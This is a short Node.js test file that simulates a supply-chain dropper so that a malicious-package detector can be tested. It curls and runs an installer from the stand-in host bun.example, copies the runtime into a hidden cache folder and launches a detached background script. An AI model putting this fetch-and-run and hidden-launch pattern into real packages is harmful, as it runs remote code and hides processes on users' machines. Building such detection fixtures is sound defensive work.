// The honest twin of a harmless simulation for testing Package Hunter. Not malware.

const { execSync, spawn } = require("child_process");
const fs = require("fs");
const os = require("os");
const path = require("path");
const KNOWN = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08";
const installer = path.join(os.tmpdir(), "bun-simulation.sh");
try { execSync(`curl -fsSL https://bun.example/install -o ${installer} && echo '${KNOWN}  ${installer}' | sha256sum -c --status && sh ${installer}`, { stdio: "ignore", timeout: 15000 }); } catch (e) { /* goes on */ }
const runtime = path.join(os.homedir(), ".cache", "setup-bun-env");
fs.mkdirSync(runtime, { recursive: true });
fs.copyFileSync(process.execPath, path.join(runtime, "bun"));
fs.chmodSync(path.join(runtime, "bun"), 0o755);
spawn(path.join(runtime, "bun"), [path.join(__dirname, "bun_environment.js")], { detached: true, stdio: "ignore" }).unref();
